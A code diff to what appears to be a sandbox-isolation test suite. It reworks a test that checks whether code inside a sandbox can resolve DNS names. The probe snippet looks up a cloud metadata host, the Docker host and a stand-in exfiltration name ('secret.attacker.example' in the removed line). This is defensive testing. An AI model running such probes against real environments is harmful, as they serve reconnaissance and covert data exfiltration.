@@ -96,17 +96,20 @@ for host in ("2606:4700:4700::1111", "fd00:ec2::254"):
 @claim.about("network", threats=("host-names",), open_on=("host", "bridge", "named"))
 async def cannot_resolve_a_name(target: Target) -> Outcome:
     """A resolver is a way out: names carry data."""
-    return await target.attack("""
+    return await target.attack(
+        """
 import socket
 socket.setdefaulttimeout(3)
-for name in ("example.com", "metadata.google.internal", "host.docker.internal", "secret.attacker.example"):
+for name in ("example.com", "metadata.google.internal", "host.docker.internal", "secret.example", given["host"]):
     def ask():
         try:
             return socket.getaddrinfo(name, 80)
         except socket.gaierror as error:
             raise OSError(str(error))
     attempt("resolve " + name, ask)
-""")
+""",
+        host=os.uname().nodename,
+    )
 
 
 @claim.about("network", "namespaces", threats=("host-sockets",), open_on=("host",))
